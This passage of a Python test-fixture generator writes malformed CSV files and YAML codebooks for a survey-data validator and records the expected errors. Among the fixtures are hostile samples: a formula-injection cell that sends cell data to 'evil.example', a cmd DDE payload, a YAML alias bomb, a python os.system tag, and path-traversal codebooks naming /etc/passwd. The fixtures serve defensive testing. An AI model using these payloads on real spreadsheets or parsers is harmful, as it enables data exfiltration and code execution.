        "score": {"type": "number", "role": "outcome"},
    }))
    put_text("thousands_semicolon.csv", "person_id;income;score\n1;1,234;3,5\n2;12,500;4\n3;850;2,5\n")
    case("thousands_semicolon.csv", "thousands separators '1,234' in a semicolon file (read as decimal comma)", 1,
         r"(?s)2 problem\(s\).*column 'income', row 1 \(line 2, id 1\): value '1,234' is not a whole number.*"
         r"row 2 \(line 3, id 2\): value '12,500' is not a whole number", codebook="thousands.cb.yaml")

    # -- Qualtrics
    q_header = ["StartDate", "EndDate", "Status", "IPAddress", "Progress", "Duration (in seconds)", "Finished",
                "RecordedDate", "ResponseId", "RecipientLastName", "RecipientFirstName", "RecipientEmail",
                "ExternalReference", "LocationLatitude", "LocationLongitude", "DistributionChannel",
                "UserLanguage", "Q1", "Q2"]  # fmt: skip
    q_text = ["Start Date", "End Date", "Response Type", "IP Address", "Progress", "Duration (in seconds)",
              "Finished", "Recorded Date", "Response ID", "Recipient Last Name", "Recipient First Name",
              "Recipient Email", "External Data Reference", "Location Latitude", "Location Longitude",
              "Distribution Channel", "User Language", "How satisfied are you, overall?",
              "How close do you feel?"]  # fmt: skip
    q_import = ['{"ImportId":"' + k + '"}' for k in ("startDate", "endDate", "status", "ipAddress", "progress",
                "duration", "finished", "recordedDate", "_recordId", "recipientLastName", "recipientFirstName",
                "recipientEmail", "externalDataReference", "locationLatitude", "locationLongitude",
                "distributionChannel", "userLanguage", "QID1", "QID2")]  # fmt: skip
    q_rows = [
        ["2024-03-01 10:00:00", "2024-03-01 10:09:00", "0", "203.0.113.7", "100", "540", "1", "2024-03-01 10:09:01",
         "R_1aB2cD3eF4gH5iJ", "Muster", "Anna", "anna.muster@example.org", "", "47.3769", "8.5417", "email", "EN",
         "6", "5"],
        ["2024-03-02 11:00:00", "2024-03-02 11:12:00", "0", "198.51.100.23", "100", "720", "1", "2024-03-02 11:12:02",
         "R_9zY8xW7vU6tS5rQ", "Beispiel", "Ben", "ben.beispiel@example.org", "", "46.2044", "6.1432", "email", "EN",
         "4", "7"],
    ]  # fmt: skip
    put_bytes("qualtrics_pii.csv", b"\xef\xbb\xbf" + table_text([q_header, q_text, q_import, *q_rows])
              .replace("\n", "\r\n").encode())  # fmt: skip
    case("qualtrics_pii.csv", "Qualtrics export, 3 header rows, IPAddress/Recipient*/Location* columns", 0,
         r"(?s)Qualtrics export, utf-8-sig, comma-separated, decimal point, 3 header rows; 2 rows.*"
         r"removed identifying column 'IPAddress' of data \(IP address\).*removed identifying column 'RecipientEmail'.*"
         r"removed identifying column 'LocationLatitude' of data \(location\).*No problems.*analysed 2")
    put_bytes("qualtrics_no_responses.csv", b"\xef\xbb\xbf" + table_text([q_header, q_text, q_import])
              .replace("\n", "\r\n").encode())  # fmt: skip
    case("qualtrics_no_responses.csv", "Qualtrics export with no responses (3 header rows only)", 2,
         r"error: \S*qualtrics_no_responses\.csv is a Qualtrics export with no responses")

    # -- free text, PII, formula injection
    essay = ("We met at a friend's wedding and talked all night. " * 4000)[:200_000].rstrip()
    put_text("free_text_200k.csv", table_text([["person_id", "age", "comments"], ["1", "34", essay],
                                               ["2", "36", "short answer"]]))  # fmt: skip
    case("free_text_200k.csv", "200 kB free-text cell (read; column dropped as free_text)", 0,
         r"(?s)2 rows, 3 columns.*removed identifying column 'comments' of survey \(codebook role free_text\)"
         r".*No problems.*analysed 2", codebook="free_text.cb.yaml")
    put_yaml("free_text_sep.cb.yaml", simple_codebook(free_text_vars, fmt={"sep": ","}))
    case("free_text_200k.csv", "200 kB free-text cell, separator given in the codebook (no sniffing)", 0,
         r"(?s)2 rows, 3 columns.*removed identifying column 'comments' of survey \(codebook role free_text\)"
         r".*No problems.*analysed 2", codebook="free_text_sep.cb.yaml")
    put_yaml("formula.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "note": {"type": "string", "role": "other"},
        "score": {"type": "integer", "role": "outcome", "range": [1, 7]},
    }))
    put_text("formula_injection.csv", table_text([
        ["person_id", "note", "score"],
        ["1", '=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "4"],
        ["2", "+1", "5"],
        ["3", "-2+3", "6"],
        ["4", "@SUM(A1:A9)", "=1+1"],
        ["5", "=cmd|' /C calc'!A0", "3"],
        ["6", "plain text", "2"],
    ]))
    case("formula_injection.csv", "formula-injection cells in a string column (and '=1+1' in an integer one)", 1,
         r"(?s)1 problem\(s\).*column 'score', row 4 \(line 5, id 4\): value '=1\+1' is not a whole number"
         r".*analysed 6", codebook="formula.cb.yaml")
    put_text("quoted_bare_cr.csv", 'person_id,note,score\n1,"first line\rsecond line",4\n2,plain,9\n'
                                   '3,"a\rb\rc",6\n4,ok,5\n')  # fmt: skip
    case("quoted_bare_cr.csv", "a quoted cell holding a bare CR (LF file); bad value below it", 1,
         r"(?s)1 problem\(s\).*quoted_bare_cr\.csv, column 'score', row 2 \(line 4, id 2\): value '9' is outside 1\.\.7"
         r".*survey: rows read 4 -> analysed 4", codebook="formula.cb.yaml")
    put_text("formula_header.csv", table_text([["person_id", '=HYPERLINK("http://x","y")', "score"],
                                               ["1", "a", "4"], ["2", "b", "5"], ["3", "c", "6"]]))  # fmt: skip
    case("formula_header.csv", "a header cell =HYPERLINK(...) (no codebook)", 0,
         r"(?s)types inferred.*3 rows, 3 columns.*No problems.*data: rows read 3 -> analysed 3")
    pii_rows = [
        ["person_id", "age", "ip_addr", "contact", "PartnerName", "Q12_TEXT", "notes", "score"],
        ["1", "34", "192.168.1.17", "anna.muster@example.org", "Ben", "Anna Muster",
         "Call Ben at +41 79 123 45 67 or ben.beispiel@example.org", "4"],
        ["2", "36", "10.0.0.5", "ben.beispiel@example.org", "Anna", "Ben Beispiel",
         "Anna says hi, write to anna.muster@example.org or phone 079 555 12 34", "5"],
        ["3", "29", "203.0.113.9", "carla.rossi@example.net", "David", "Carla Rossi",
         "David Meier wants a call back: +49 30 1234567, david.meier@example.de", "3"],
        ["4", "31", "198.51.100.4", "david.meier@example.de", "Carla", "David Meier",
         "Email carla.rossi@example.net, tel 044 123 45 67, Carla", "6"],
        ["5", "45", "172.16.0.33", "eva.keller@example.com", "Felix", "Eva Keller",
         "Felix is at felix.keller@example.com (phone +41 44 987 65 43)", "2"],
        ["6", "47", "192.0.2.200", "felix.keller@example.com", "Eva", "Felix Keller",
         "Eva Keller: eva.keller@example.com, 076 321 54 76", "7"],
    ]  # fmt: skip
    put_text("pii_content.csv", table_text(pii_rows))
    put_yaml("pii_content.cb.yaml", simple_codebook({  # as drafted by hand or by an older draft: no pii roles
        "person_id": {"type": "integer", "role": "id"},
        "age": {"type": "integer", "role": "demographic", "range": [18, 100]},
        "ip_addr": {"type": "string", "role": "other", "label": "IP"},
        "contact": {"type": "string", "role": "other", "label": "How can we reach you?"},
        "PartnerName": {"type": "categorical", "role": "demographic", "label": "Your partner's first name",
                        "values": ["Anna", "Ben", "Carla", "David", "Eva", "Felix"]},
        "Q12_TEXT": {"type": "string", "role": "other"},
        "notes": {"type": "string", "role": "other"},
        "score": {"type": "integer", "role": "outcome", "range": [1, 7]},
    }, file="pii_content.csv"))
    pii_removed = (r"table {t}: \S*pii_content\.csv.*removed identifying column 'ip_addr' of {t} \(IP address\).*"
                   r"removed identifying column 'contact' of {t} \(contact details\).*"
                   r"removed identifying column 'PartnerName' of {t} \(person's name\).*"
                   r"removed identifying column 'Q12_TEXT' of {t} \(content: person names.*"
                   r"removed identifying column 'notes' of {t} \(content: e-mail addresses \(6 of 6 values\), phone "
                   r"numbers \(6 of 6 values\)")  # fmt: skip
    case("pii_content.csv", "identifying columns by name and content (IPs, e-mails, names, phones), codebook "
         "roles demographic/other", 0, r"(?s)" + pii_removed.format(t="survey") + r".*No problems.*analysed 6",
         codebook="pii_content.cb.yaml")
    case("pii_content.csv", "identifying columns by name and content, no codebook", 0,
         r"(?s)types inferred.*" + pii_removed.format(t="data") + r".*No problems.*analysed 6")

    # -- malformed codebooks
    put_text("bad_yaml.cb.yaml", "dataset: broken\ntables:\n  survey:\n    file: survey.csv\n    variables:\n"
                                 "      person_id: {type: integer, role: id\n      age: [type: integer\n")  # fmt: skip
    case("survey_ok.csv", "codebook is not valid YAML", 2,
         r"(?s)error: Cannot read codebook \S*bad_yaml\.cb\.yaml: .*It must be a UTF-8 YAML file",
         codebook="bad_yaml.cb.yaml")
    put_yaml("unknown_type.cb.yaml", survey_codebook(age__t={"type": "int"}))
    case("survey_ok.csv", "codebook: unknown variable type 'int'", 2,
         r"error: codebook \S*unknown_type\.cb\.yaml, table 'survey', variable 'age': `type` must be one of "
         r"integer, number, categorical, string, boolean, not 'int'", codebook="unknown_type.cb.yaml")
    put_yaml("no_tables.cb.yaml",
             {"dataset": "bad_corpus", "title": "No tables", "variables": {"age": {"type": "integer"}}})
    case("survey_ok.csv", "codebook without a tables: mapping", 2,
         r"error: Codebook \S*no_tables\.cb\.yaml has no `tables:` mapping", codebook="no_tables.cb.yaml")
    cp1252_codebook = simple_codebook({"person_id": {"type": "integer"}, "âge": {"type": "integer"},
                                       "ville": {"type": "string"}})  # fmt: skip
    put_bytes("cp1252_codebook.cb.yaml", yaml.safe_dump(cp1252_codebook, allow_unicode=True).encode("cp1252"))
    case("cp1252_accents.csv", "codebook saved as cp1252, not UTF-8", 2,
         r"error: Cannot read codebook \S*cp1252_codebook\.cb\.yaml: .*It must be a UTF-8 YAML file",
         codebook="cp1252_codebook.cb.yaml")
    put_yaml("missing_data_file.cb.yaml", {"dataset": "bad_corpus", "tables": {"survey": {
        "file": "no_such_export.csv", "variables": {"person_id": {"type": "integer", "role": "id"}}}}})
    case("missing_data_file.cb.yaml", "codebook (passed as --data) points at a file that does not exist", 2,
         r"error: \S*no_such_export\.csv does not exist")
    put_yaml("bad_kind.cb.yaml", survey_codebook(format={"kind": "parquet"}))
    case("survey_ok.csv", "codebook format kind 'parquet'", 2,
         r"error: Codebook format kind 'parquet' for \S*survey_ok\.csv is not one of csv, qualtrics, xlsx, sav, dta",
         codebook="bad_kind.cb.yaml")
    put_yaml("scalar_missing_codes.cb.yaml", survey_codebook(age__m={"missing_codes": -99}))
    case("missing_codes.csv", "codebook: missing_codes given as a scalar (-99), not a list", 2,
         r"error: .*scalar_missing_codes\.cb\.yaml.*'age'.*missing_codes", codebook="scalar_missing_codes.cb.yaml")
    put_yaml("bad_range.cb.yaml", survey_codebook(age__r={"range": "18-100"}))
    case("survey_ok.csv", "codebook: range given as text '18-100'", 2,
         r"error: .*bad_range\.cb\.yaml.*'age'.*range", codebook="bad_range.cb.yaml")
    put_yaml("bad_max_missing.cb.yaml", survey_codebook(max_missing_items="50%"))
    case("survey_ok.csv", "codebook: exclusions.max_missing_items '50%' (text)", 2,
         r"error: .*bad_max_missing\.cb\.yaml.*max_missing_items", codebook="bad_max_missing.cb.yaml")
    put_yaml("bad_min_duration.cb.yaml", survey_codebook(min_duration="5 min"))
    case("survey_ok.csv", "codebook: exclusions.min_duration '5 min' (text)", 2,
         r"error: .*bad_min_duration\.cb\.yaml.*min_duration", codebook="bad_min_duration.cb.yaml")
    put_yaml("typo_duplicate_id.cb.yaml", survey_codebook(duplicate_id="keepfirst"))
    case("duplicate_ids.csv", "codebook: exclusions.duplicate_id 'keepfirst' (typo)", 2,
         r"error: .*typo_duplicate_id\.cb\.yaml.*duplicate_id.*keep_first, exclude_all, none",
         codebook="typo_duplicate_id.cb.yaml")

    # -- codebook values of the wrong type, hostile YAML, unsafe names (each on the clean survey_ok.csv)
    def wrong(name: str, kind: str, message: str, spec: dict | None = None, text: str | None = None) -> None:
        if text is None:
            put_yaml(name, spec)
        else:
            put_text(name, text)
        case("survey_ok.csv", kind, 2, r"connlab validate: error: (Cannot read )?codebook \S*" + re.escape(name)
             + "(: |, )" + message, codebook=name)

    survey_text = yaml.safe_dump(survey_codebook(), sort_keys=False, allow_unicode=True, default_flow_style=None,
                                 width=100)  # fmt: skip
    file_must = r"table 'survey': `file` must be the data file's path \(text\), relative to the codebook.*; not "
    wrong("file_number.cb.yaml", "codebook: file: 5 (a number)", file_must + r"a number \(5\)",
          spec=survey_codebook(file=5))
    wrong("file_list.cb.yaml", "codebook: file: [survey_ok.csv] (a list)", file_must + r"a list",
          spec=survey_codebook(file=["survey_ok.csv"]))
    wrong("file_null.cb.yaml", "codebook: file: null", file_must + r"empty \(null\)", spec=survey_codebook(file=None))
    wrong("file_binary.cb.yaml", "codebook: file: !!binary ...", r"line 6, column 11: the tag !!binary is not "
          r"allowed \(only plain values, lists and mappings\)",
          text=survey_text.replace("file: survey.csv", "file: !!binary c3VydmV5X29rLmNzdg=="))
    wrong("values_nested_list.cb.yaml", "codebook: values: [[1]]", r"table 'survey', variable 'gender': `values` must "
          r"be a list of single values .*entry 1 is a list \(\[1\]\)",
          spec=survey_codebook(gender__v={"values": [[1]]}))
    wrong("value_labels_list.cb.yaml", "codebook: value_labels given as a list",
          r"table 'survey', variable 'gender': `value_labels` must be a mapping of code to label.*not a list",
          spec=survey_codebook(gender__v={"value_labels": ["man", "woman", "other"]}))
    wrong("sep_number.cb.yaml", "codebook: format: {sep: 5}", r"table 'survey': `format\.sep` must be one of .*not a "
          r"number \(5\)\. Delete it to detect the separator", spec=survey_codebook(format={"sep": 5}))
    wrong("encoding_list.cb.yaml", "codebook: format: {encoding: [utf-8]}", r"table 'survey': `format\.encoding` "
          r"must be a text encoding.*not a list \(\['utf-8'\]\)\. Delete it to detect the encoding",
          spec=survey_codebook(format={"encoding": ["utf-8"]}))
    bomb = 'lol0: &a0 "lol"\n' + "".join(f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
    wrong("alias_bomb.cb.yaml", "codebook: YAML alias bomb (billion laughs)",
          r"line 7, column 22: too many aliases: with what they stand for, the file holds more than 250,000 values; "
          r"write the values out", text=bomb + survey_text)
    depth = 10_000  # 50,000 levels give the same message (tests/test_yaml_files.py): a 20 kB file instead of 100
    wrong("deep_nesting.cb.yaml", f"codebook: lists nested {depth:,} levels deep",
          r"line 4, column 57: lists and mappings are nested more than 50 levels deep",
          text=survey_text.replace("tables:", "notes: " + "[" * depth + "]" * depth + "\ntables:", 1))
    wrong("python_tag.cb.yaml", "codebook: a !!python/object/apply:os.system tag",
          r"line 2, column 8: the tag !!python/object/apply:os\.system is not allowed",
          text=survey_text.replace("title: Malformed-input corpus",
                                   "title: !!python/object/apply:os.system ['echo pwned']"))
    safe = r"is not a safe name \(it becomes a {} name\): use letters, digits"
    wrong("dataset_dotdot.cb.yaml", "codebook: dataset: ../../x", r"`dataset` '\.\./\.\./x' " + safe.format("folder"),
          spec={**survey_codebook(), "dataset": "../../x"})
    wrong("dataset_absolute.cb.yaml", "codebook: dataset: /tmp/x (absolute)", r"`dataset` '/tmp/x' "
          + safe.format("folder"), spec={**survey_codebook(), "dataset": "/tmp/x"})
    spec = survey_codebook()
    spec["tables"] = {"../../x": spec["tables"]["survey"]}
    wrong("table_dotdot.cb.yaml", "codebook: a table named ../../x", r"the table name '\.\./\.\./x' "
          + safe.format("file"), spec=spec)

    # -- a codebook (passed as --data) that names a file outside the data folder: refused before reading
    for name, target in [("file_passwd.cb.yaml", "../" * 8 + "etc/passwd"), ("file_absolute.cb.yaml", "/etc/hostname"),
                         ("file_dev_zero.cb.yaml", "/dev/zero")]:  # fmt: skip
        put_yaml(name, survey_codebook(file=target))
        shown = re.escape(str(Path("/", target.replace("../", ""))))
        case(name, f"codebook names a file outside the data folder: file: {target}", 2,
             rf"connlab validate: error: codebook \S*{re.escape(name)}, table 'survey': its file {shown} is outside "
             r"the data folder \S+\. Data are read only from the codebook's folder: move the file there, or allow its "
             r"folder explicitly with --data-root")


def write_manifest() -> None:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=MANIFEST_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(ROWS)
    put_text("MANIFEST.csv", buf.getvalue())


def main(argv: list[str]) -> int:
    global OUT
    OUT = Path(argv[0]).resolve() if argv else HERE
    OUT.mkdir(parents=True, exist_ok=True)
    ROWS.clear()
    build()
    write_manifest()
    files = {r["file"] for r in ROWS} | {r["codebook"] for r in ROWS if r["codebook"]}
    missing = sorted(f for f in files if not (OUT / f).exists() and f != "")
    if missing:
        raise SystemExit(f"manifest names files that were not written: {missing}")
    print(f"wrote {len(files)} data/codebook files and {len(ROWS)} manifest rows to {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
